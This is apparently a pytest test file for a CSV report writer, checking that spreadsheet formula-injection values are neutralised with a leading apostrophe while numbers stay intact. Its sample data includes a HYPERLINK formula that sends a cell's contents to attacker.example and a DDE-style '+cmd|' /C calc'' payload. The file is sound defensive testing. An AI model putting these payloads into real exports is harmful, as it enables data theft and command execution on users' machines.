"""Case 18: text a spreadsheet could run as a formula is neutralised, numbers stay."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from tierwise.report.cells import for_people, needs_neutralising, strip_control
from tierwise.report.files import write_csv

CASE_18_HEADER = ["Account Name", "Website", "Notes", "Revenue Delta"]
CASE_18_ROWS: list[list[object]] = [
    ['=HYPERLINK("http://attacker.example/?x="&A1,"Open")', "evil.example", "", 0],
    ["+Plus Minus Ltd", "plusminus.example", "-tier change approved", 0],
    ["@Acme Ops", "acmeops.example", "\t=1+1", 0],
    ["Negative Revenue Test", "neg.example", "", -1250],
]


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_case_18_sample_rows_are_neutralised_and_numbers_stay(tmp_path: Path) -> None:
    path = tmp_path / "case-18.csv"

    write_csv(
        path,
        CASE_18_HEADER,
        CASE_18_ROWS,
        [True, True, True, False],
        for_spreadsheets=True,
    )

    assert _read(path) == [
        CASE_18_HEADER,
        ["'" + str(CASE_18_ROWS[0][0]), "evil.example", "", "0"],
        ["'+Plus Minus Ltd", "plusminus.example", "'-tier change approved", "0"],
        ["'@Acme Ops", "acmeops.example", "'\t=1+1", "0"],
        ["Negative Revenue Test", "neg.example", "", "-1250"],
    ]


def test_case_18_raw_mode_keeps_the_sample_exactly(tmp_path: Path) -> None:
    path = tmp_path / "case-18-raw.csv"

    write_csv(path, CASE_18_HEADER, CASE_18_ROWS, [True, True, True, False], raw=True)

    assert _read(path)[1:] == [[str(value) for value in row] for row in CASE_18_ROWS]
    assert not path.read_bytes().startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("=1+1", id="equals"),
        pytest.param("+1+1", id="plus"),
        pytest.param("-1+1", id="minus"),
        pytest.param("@SUM(A1:A9)", id="at"),
        pytest.param("\t=1+1", id="tab-before-formula"),
        pytest.param("\tplain", id="leading-tab"),
        pytest.param("\r=1+1", id="carriage-return"),
        pytest.param("   =1+1", id="leading-spaces"),
        pytest.param(" \u3000+cmd|' /C calc'!A0", id="ideographic-space-then-plus"),
        pytest.param("＝1+1", id="full-width-equals"),
        pytest.param("＋Plus Minus Ltd", id="full-width-plus"),
        pytest.param("－tier change approved", id="full-width-minus"),
        pytest.param("＠Acme Ops", id="full-width-at"),
        pytest.param("  ＝HYPERLINK(1)", id="spaces-then-full-width"),
        pytest.param("﹦1+1", id="small-equals"),
        pytest.param("\u22121+1", id="minus-sign"),
    ],
)
def test_formula_starts_of_every_kind_are_neutralised(text: str) -> None:
    assert needs_neutralising(text)
    assert for_people(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("Acme = Best", id="equals-inside"),
        pytest.param("-1250", id="negative-number-as-text"),
        pytest.param("+3.5", id="signed-decimal-as-text"),
        pytest.param("", id="empty"),
        pytest.param("   ", id="only-spaces"),
        pytest.param("'quoted already", id="leading-apostrophe"),
        pytest.param("Ünïcode Ltd", id="plain-unicode"),
    ],
)
def test_harmless_text_is_left_alone(text: str) -> None:
    assert for_people(text) == text


def test_control_characters_are_stripped_before_checking_for_formulas() -> None:
    assert for_people("\x01=1+1") == "'=1+1"
    assert for_people("Acme\x00 Ops\x1b\x7f") == "Acme Ops"


def test_tab_line_feed_and_carriage_return_inside_text_are_kept() -> None:
    assert strip_control("a\tb\nc\rd") == "a\tb\nc\rd"
    assert strip_control("bad\ufffe\uffffend") == "badend"
